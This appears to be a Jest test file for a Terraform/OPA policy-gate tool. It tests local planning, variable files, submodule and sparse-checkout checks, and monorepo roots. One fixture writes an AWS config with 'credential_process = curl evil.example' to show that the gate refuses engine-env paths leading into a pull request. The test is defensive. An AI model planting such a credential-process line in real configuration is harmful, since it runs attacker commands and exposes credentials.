/** A check without a service plans the repository as it lies there, modules beside and above a root included, and leaves nothing behind. */
import { readdirSync, realpathSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import {
  findEmptySubmodules,
  findMissingFiles,
  listCheckout,
} from '../../src/gate/look-at-commit.ts';
import { execute } from '../../src/machine/execute.ts';
import { textOf } from '../../src/model/finding.ts';
import { findPlaces } from '../../src/plan/find-plans.ts';
import { emptyDirectory } from '../support/empty-directory.ts';
import { commitIn, gitIn, initIn } from '../support/git-in.ts';
import { describe, expect, test } from '../support/jest.ts';
import { readText } from '../support/markdown-files.ts';
import { once } from '../support/once.ts';
import { eachWith, findProgram, testWith } from '../support/optional-tools.ts';
import {
  examplePolicies,
  mergeRequestIn,
  pathWith,
  policyRepository,
} from '../support/policy-repository.ts';
import { quietLog } from '../support/quiet-log.ts';
import { callGate } from '../support/rego-gate.ts';
import { layIn, type Layout } from '../support/tree.ts';

const BOTH = ['terraform', 'opa'];

/** Denies each input that is not `wanted`, at the level of its METADATA. */
const denyOther = (wanted: string, level = 'mandatory') => `package inputs

# METADATA
# custom:
#   enforcement_level: ${level}
deny contains msg if {
	some r in input.resource_changes
	r.change.after.input != "${wanted}"
	msg := sprintf("%s: is %s", [r.address, r.change.after.input])
}
`;

const input = (expression: string, name = 'a') =>
  `resource "terraform_data" "${name}" {\n  input = ${expression}\n}\n`;

function repository(files: Layout): string {
  const root = realpathSync(emptyDirectory());
  layIn(root, files);
  initIn(root);
  commitIn(root);
  return root;
}

const ports = { execute, log: quietLog(), environment: process.env, endReason: () => undefined };

const checkedOut = async (root: string, workingDirectory: string) => ({
  root,
  workingDirectory,
  tracked: await listCheckout(root, ports),
});

/** By the real Terraform. */
const planned = (cwd: string, words: readonly string[]) =>
  callGate(cwd, words, { env: { PATH: pathWith(findProgram('terraform'), findProgram('opa')) } });

/** What only a check with a service has. */
const OF_SERVICE = /localhost|run-|cv-|configuration version|uploaded|queued|pending|sha256/;

describe('a file of the repository', () => {
  const files = {
    'policies/inputs.rego': denyOther('shared'),
    'shared/x.txt': 'shared',
    'shared/.env': 'shared',
    '.terraformignore': 'shared\n',
    '.gitignore': '*.env\n.env\n',
  };

  testWith(
    BOTH,
    'is planned: above the configuration, excluded by rules, and behind links',
    async () => {
      const read = [
        'file("${path.module}/../../shared/x.txt")',
        'file("../../shared/.env")',
        'file("linked.txt")',
        'one(fileset("${path.module}/links", "*.txt")) == "x.txt" ? "shared" : "other"',
      ];
      const resources = read.map((expression, at) => input(expression, `r${at}`));
      const cwd = repository({ ...files, 'live/prod/main.tf': resources.join('') });
      symlinkSync('../../shared/x.txt', join(cwd, 'live/prod/linked.txt'));
      symlinkSync('../../shared', join(cwd, 'live/prod/links'));
      const before = readdirSync(cwd, { recursive: true });
      const { code, stdout, stderr } = await planned(cwd, ['--directory', 'live/prod']);
      expect(stdout + stderr).not.toMatch(OF_SERVICE);
      expect([code, stdout]).toEqual([0, expect.stringContaining('✓ Policy gate: passed')]);
      expect(stdout).toContain('4 to add');
      expect(readdirSync(cwd, { recursive: true })).toEqual(before);
    },
  );

  testWith(BOTH, 'is not read if it is a state', async () => {
    const cwd = repository({
      ...files,
      'live/main.tf': input('terraform.workspace == "live" ? "shared" : "other"'),
      'live/terraform.tfstate.d/live/terraform.tfstate': '{"version": 4, "serial": "broken"}',
      'live/terraform.tfstate': '{"version": 4, "serial": "broken"}',
    });
    const { code, stdout } = await planned(cwd, ['--directory', 'live']);
    expect([code, stdout]).toEqual([0, expect.stringContaining('1 to add')]);
  });
});

describe('the value of a variable', () => {
  const cwd = () =>
    repository({
      'policies/inputs.rego': denyOther('named'),
      'live/main.tf': `variable "a" {\n  default = "other"\n}\n${input('var.a')}`,
      'live/prod.tfvars': 'a = "named"\n',
    });

  eachWith<[string, string[], number]>(BOTH, [
    ['from a file', ['--var-file', 'prod.tfvars'], 0],
    ['of the command over a file', ['--var-file', 'prod.tfvars', '--variables', 'a=other'], 1],
  ])('counts %s', async (_, words, expected) => {
    const { code, stdout } = await planned(cwd(), ['--directory', 'live', ...words]);
    expect([code, stdout]).toEqual([expected, expect.stringContaining('1 to add')]);
    if (words.includes('--var-file')) expect(stdout).toContain('var-file: prod.tfvars');
    // A report has more readers than a plan.
    expect(stdout).not.toContain('a=named');
  });
});

testWith('opa', 'only-new accepts no failure in a plan of another job', async () => {
  const plan = readText('__tests__/data/plan-made-elsewhere.json');
  const cwd = repository({ 'policies/inputs.rego': denyOther('y'), 'plan.json': plan });
  const { code, stderr } = await callGate(cwd, ['--plan', 'plan.json', '--only-new']);
  const why = 'because a plan that was made elsewhere has no other side';
  expect([code, stderr]).toEqual([1, expect.stringContaining(why)]);
});

test('a program that plans gets no token of the job', async () => {
  const { code, stderr } = await callGate(repository({ 'main.tf': '' }), [
    '--engine-env',
    'GITHUB_TOKEN',
  ]);
  expect([code, stderr]).toEqual([2, expect.stringMatching(/engine-env +GITHUB_TOKEN belongs to/)]);
});

describe('a variable that `engine-env` passes', () => {
  const check = async (clone: string, variables: Record<string, string>) => {
    const job = { ...mergeRequestIn(clone), CI_PROJECT_DIR: clone, ...variables };
    const names = Object.keys(variables).join(',');
    const words = ['--directory', 'live', '--policies', 'policies', '--engine-env', names];
    return callGate(clone, words, { env: job, isPersonThere: false });
  };
  const files = {
    'policies/inputs.rego': denyOther('x'),
    'live/main.tf': input('"x"'),
    'aws/config': '[default]\n',
  };

  eachWith<[string, (clone: string) => string, string]>('opa', [
    ['AWS_CONFIG_FILE', (clone) => join(clone, 'aws/config'), '"aws/config" in the files'],
    ['AWS_CONFIG_FILE', () => '../aws/config', '"aws/config" in the files'],
    ['XDG_CONFIG_HOME', (clone) => clone, '"." in the files'],
    ['TF_PLUGIN_CACHE_DIR', (clone) => join(clone, '.cache'), '".cache" in the files'],
    ['TF_PLUGIN_CACHE_DIR', () => '.cache', '"live/.cache" in the files'],
  ])('and that leads into a pull request starts nothing: %s', async (name, value, shown) => {
    const clone = policyRepository(files).propose({
      'aws/config': '[default]\ncredential_process = curl evil.example\n',
    });
    const { code, stdout, stderr } = await check(clone, { [name]: value(clone) });
    expect([code, stdout]).toEqual([2, '']);
    expect(stderr).toMatch(new RegExp(`engine-env +${name} leads to ${shown} that are judged`));
    expect(stderr).toContain('Keep it outside of the checkout, as in `$RUNNER_TEMP`.');
  });

  testWith('opa', 'may name what is as on the default branch, or outside', async () => {
    const clone = policyRepository(files).propose({ 'live/other.tf': '' });
    const outside = emptyDirectory();
    const variables = {
      AWS_CONFIG_FILE: join(clone, 'aws/config'),
      TF_PLUGIN_CACHE_DIR: outside,
      AWS_PROFILE: 'live',
    };
    const { code, stdout, stderr } = await check(clone, variables);
    expect([code, stderr]).toEqual([0, expect.not.stringContaining('engine-env')]);
    expect(stdout).toContain('passed');
  });

  testWith('opa', 'may name anything where a person checks their own files', async () => {
    const cwd = repository(files);
    const env = { TF_PLUGIN_CACHE_DIR: join(cwd, '.cache') };
    const words = ['--directory', 'live', '--engine-env', 'TF_PLUGIN_CACHE_DIR'];
    expect((await callGate(cwd, words, { env })).code).toBe(0);
  });
});

testWith(
  'opa',
  'a soft-mandatory failure without a service is accepted by an exception only',
  async () => {
    const cwd = repository({
      'policies/inputs.rego': denyOther('y', 'soft-mandatory'),
      'live/main.tf': input('"x"'),
    });
    const { code, stdout } = await callGate(cwd, ['--directory', 'live']);
    expect(code).toBe(3);
    expect(stdout).toMatch(/Fix inputs and check again; or ask for an exception/);
    expect(stdout).not.toMatch(/by a comment|\/plangate override|does not know the policies/);
  },
);

testWith(
  'opa',
  'a submodule that is not checked out closes the gate where a module is in it',
  async () => {
    const cwd = repository({
      'policies/inputs.rego': denyOther('x'),
      'live/main.tf': `module "net" {\n  source = "../vendor/net"\n}\n${input('"x"')}`,
      'other/main.tf': input('"x"'),
      'vendor/README.md': '',
    });
    const some = 'a'.repeat(40);
    gitIn(cwd, 'update-index', '--add', '--cacheinfo', `160000,${some},vendor/net`);
    gitIn(cwd, 'commit', '-q', '-m', 'submodule');
    layIn(cwd, { 'vendor/net/.keep': '' });
    const live = await callGate(cwd, ['--directory', 'live']);
    expect(live.code).toBe(5);
    expect(live.stdout).toMatch(/Terraform would load vendor\/net.*not checked out/s);
    expect((await callGate(cwd, ['--directory', 'other'])).code).toBe(0);
  },
);

testWith('opa', 'a plan of a part is undecided without allow-partial', async () => {
  const cwd = repository({
    'policies/inputs.rego': denyOther('x'),
    'live/main.tf': input('"x"'),
  });
  for (const part of [['--target', 'terraform_data.a'], ['--refresh-only']]) {
    const words = ['--directory', 'live', ...part];
    const { code, stdout } = await callGate(cwd, words);
    expect([code, stdout]).toEqual([5, expect.stringMatching(/Only a part was planned/)]);
    const allowed = await callGate(cwd, [...words, '--allow-partial']);
    const passed = /passed for a part of the configuration in 1 workspace\.$/m;
    expect([allowed.code, allowed.stdout]).toEqual([0, expect.stringMatching(passed)]);
    const strict = await callGate(cwd, [...words, '--allow-partial', '--fail-on', 'advisory']);
    const closed = /closed because only a part was planned, in 1 workspace .*\n  Plan the whole/;
    expect([strict.code, strict.stdout]).toEqual([1, expect.stringMatching(closed)]);
  }
});

test('a submodule in another one closes the gate, too, where it is not checked out', async () => {
  const library = repository({ 'README.md': '' });
  gitIn(library, 'update-index', '--add', '--cacheinfo', `160000,${'a'.repeat(40)},net`);
  gitIn(library, 'commit', '-q', '-m', 'submodule');
  const root = repository({ 'live/main.tf': 'module "net" {\n  source = "../vendor/net"\n}\n' });
  gitIn(root, '-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', library, 'vendor');
  const why = await findEmptySubmodules(await checkedOut(root, 'live'), ports);
  expect(why && textOf(why)).toMatch(/^Terraform would load vendor\/net, .*not checked out/);
});

const POLICIES = examplePolicies();
const ROOTS = Array.from(
  { length: 10 },
  (_, at) => `live/${at % 2 === 0 ? 'prod' : 'stage'}/app-${at}`,
);
const MODULES = ['disk', 'label', 'net', 'store', 'stack'];

/** Ten roots over five shared modules, of which one calls another. Every root has one volume without encryption. */
function monorepo(): Record<string, string | Buffer> {
  const files: Record<string, string | Buffer> = { ...POLICIES };
  for (const name of MODULES) {
    files[`modules/${name}/main.tf`] =
      `variable "at" {\n  default = "${name}"\n}\noutput "id" {\n  value = var.at\n}\n`;
  }
  files['modules/disk/volume.tf'] =
    'resource "aws_ebs_volume" "data" {\n  availability_zone = "eu-central-1a"\n  encrypted = false\n  tags = { owner = "net", cost-center = "7" }\n}\n';
  files['modules/stack/disk.tf'] = 'module "disk" {\n  source = "../disk"\n  at     = var.at\n}\n';
  ROOTS.forEach((root, at) => {
    const second = MODULES[at % 4] === 'disk' ? 'label' : (MODULES[at % 4] ?? '');
    files[`${root}/main.tf`] =
      `module "stack" {\n  source = "../../../modules/stack"\n}\nmodule "other" {\n  source = "../../../modules/${second}"\n}\n`;
  });
  return files;
}

const MONOREPO = once(async () => repository(monorepo()));

describe('a monorepo of ten roots over five shared modules', () => {
  testWith('opa', 'is planned as a whole by one command', async () => {
    const root = await MONOREPO();
    const pairs = ROOTS.map((path) => `${path.split('/').at(-1)}=${path}`).join(',');
    const { code, stdout, stderr } = await callGate(root, ['--workspaces', pairs]);
    expect(stdout).toMatch(
      /modules\/disk\/volume\.tf:3 +module\.stack\.module\.disk\.aws_ebs_volume\.data/,
    );
    expect(stdout).toMatch(/✗ app-9 +blocked/);
    expect(stdout + stderr).not.toMatch(/Unreadable module|outside of/);
    expect(stdout + stderr).not.toMatch(OF_SERVICE);
    expect(code).toBe(1);
  });

  eachWith<[string, string, string[]]>('opa', [
    ['with --directory', '.', ['--directory', 'live/prod/app-0']],
    ['from inside', 'live/prod/app-0', ['--policies', '../../../policies']],
    ['from beside', 'modules', ['--directory', '../live/prod/app-0', '--policies', '../policies']],
  ])('plans one root, %s', async (_, below, words) => {
    const { code, stdout, stderr } = await callGate(join(await MONOREPO(), below), [...words]);
    expect(stdout).toMatch(/✗ app-0 +blocked/);
    expect(stderr).not.toMatch(/warning: "/);
    expect(code).toBe(1);
  });
});

describe('the files of a plan', () => {
  const callTo = (source: string) => `module "o" {\n  source = "${source}"\n}\n`;

  eachWith<[string, string]>('opa', [
    ['lies above it', '../../outside'],
    ['is not there', '../gone'],
  ])('end at the repository: a module that %s fails the plan', async (_, source) => {
    const around = realpathSync(emptyDirectory());
    layIn(around, { 'outside/main.tf': 'locals {}\n' });
    const root = join(around, 'repository');
    layIn(root, { ...POLICIES, 'live/main.tf': callTo(source) });
    initIn(root);
    const { code, stdout } = await callGate(root, ['--directory', 'live']);
    expect(stdout).toContain('Unreadable module directory');
    expect(code).toBe(4);
  });

  test('end at the directory itself where there is no repository', () => {
    const around = realpathSync(emptyDirectory());
    layIn(around, { 'outside/main.tf': 'locals {}\n', 'live/main.tf': callTo('../outside') });
    const placeOf = findPlaces({ directory: 'live', workspaces: [] }, around);
    expect(placeOf('live')).toEqual({ root: join(around, 'live'), workingDirectory: '' });
  });
});

describe('what a pull request hides', () => {
  const HIDING = { '.terraformignore': 'modules/disk/volume.tf\nlive/\n' };

  testWith('opa', 'is missed where a sparse checkout leaves out a file that it adds', async () => {
    const added = 'live/prod/app-0/more.tf.json';
    const clone = policyRepository(monorepo()).propose({ [added]: '{}' });
    gitIn(clone, 'sparse-checkout', 'set', '--no-cone', '/*', '!more.tf.json');
    const env = { ...mergeRequestIn(clone), CI_PROJECT_DIR: clone };
    const check = async (root: string) => {
      const words = ['--directory', root, '--policies', 'policies'];
      return (await callGate(clone, words, { env, isPersonThere: false })).stdout;
    };
    expect(await check('live/prod/app-0')).toContain(
      `Terraform would load ${added}, which this checkout lacks`,
    );
    expect(await check('live/prod/app-2')).toMatch(/modules\/disk\/volume\.tf:3/);

    const place = await checkedOut(clone, 'live/prod/app-0');
    const whyClosed = async (changed: string[]) => {
      const why = await findMissingFiles(place, async () => changed, ports);
      return why && textOf(why);
    };
    expect(await whyClosed([added])).toContain('which the pull request adds or changes');
    expect(await whyClosed(['README.md'])).toBeUndefined();
    expect(await findEmptySubmodules(place, ports)).toBeUndefined();
  });

  test('is missed where a sparse checkout leaves out a file that a text names', async () => {
    const read = 'fileset("${path.module}/../extra", "*.json")';
    const root = repository({
      'live/main.tf': `locals {\n  all = ${read}\n}\n`,
      'extra/a.json': '',
    });
    const whyClosed = async (...changed: string[]) => {
      const place = await checkedOut(root, 'live');
      const why = await findMissingFiles(place, async () => changed, ports);
      return why && textOf(why);
    };
    expect(await whyClosed('extra/a.json')).toBeUndefined();
    gitIn(root, 'sparse-checkout', 'set', 'live');
    expect(await whyClosed('extra/a.json')).toMatch(/^Terraform would load extra\/a\.json, which/);
    expect(await whyClosed('live/main.tf')).toBeUndefined();
    // Where nobody knows what changes, it may be this file.
    const place = await checkedOut(root, 'live');
    const unknown = await findMissingFiles(place, async () => undefined, ports);
    expect(unknown && textOf(unknown)).toMatch(
      /^Terraform would load extra\/a\.json, which this checkout lacks/,
    );
  });

  testWith(
    'opa',
    'is planned all the same where rules exclude it, because nothing is sent',
    async () => {
      const files = { ...monorepo(), 'live/prod/app-0/.terraformignore': 'modules/\n*.md\n' };
      const merging = policyRepository(files);
      const words = ['--directory', 'live/prod/app-0', '--policies', 'policies'];
      const hiding = merging.propose(HIDING);
      const { stdout } = await callGate(hiding, words, {
        env: { ...mergeRequestIn(hiding), CI_PROJECT_DIR: hiding },
        isPersonThere: false,
      });
      expect(stdout).toMatch(/modules\/disk\/volume\.tf:3/);
    },
  );
});
